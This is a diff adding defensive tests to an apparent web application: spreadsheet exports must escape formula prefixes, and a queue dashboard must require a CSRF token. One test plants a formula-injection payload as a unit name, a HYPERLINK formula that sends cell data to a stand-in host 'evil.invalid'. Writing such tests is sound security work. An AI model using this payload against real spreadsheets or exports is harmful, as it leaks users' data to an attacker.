@@ -213,3 +213,43 @@ def test_a_task_action_carries_only_its_own_short_fields_and_nothing_else_is_sto
                                                         TaskTransition.action == "sign")).all() == []
     signed = move(client, unit, task["id"], "sign", task["version"], comment="收到")
     assert signed.status_code == 200
+
+
+def test_a_unit_name_written_like_a_formula_stays_text_in_the_bulletin_xlsx(app, login, session):
+    import io
+    from datetime import datetime, timezone
+
+    from openpyxl import load_workbook
+
+    from engine.core import clock
+    from engine.core.models import Unit
+
+    clock.set_clock(lambda: datetime(2026, 12, 5, 3, tzinfo=timezone.utc))
+    unit = session.scalar(select(Unit).where(Unit.code == "JD-DC"))
+    unit.name_en = '=HYPERLINK("http://evil.invalid/?"&A1,"Dongcheng")'
+    session.commit()
+    client = app.test_client()
+    login(client, "assessor")
+    book = load_workbook(io.BytesIO(client.get("/assessment/bulletins/2026-11.xlsx?lang=en").data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and "evil.invalid" in cell.value]
+    assert cells, "the unit's name is in the bulletin"
+    assert all(cell.data_type == "s" and cell.value.startswith("'=HYPERLINK") for cell in cells)
+    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
+
+
+def test_formula_prefixes_are_escaped_in_every_export_cell():
+    from engine.core.cells import inert_row
+
+    assert inert_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "东城", -3, 2.5, None]) == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "东城", -3, 2.5, None]
+
+
+def test_the_queue_dashboard_refuses_a_post_without_the_csrf_token(app, client, login):
+    login(client, "admin")
+    assert client.post("/rq/requeue/nothing-here").status_code == 400  # no token: a forged request
+    assert client.get("/rq/requeue/nothing-here").status_code == 405  # requeue-all only by POST
+    assert client.get("/rq/").status_code == 200
+    token = client.get_cookie("_csrf_token", path="/rq")
+    assert token is not None, "the dashboard's script finds the token in this cookie"
+    assert client.post("/rq/requeue/nothing-here", headers={"X-CSRFToken": token.value}).status_code == 200
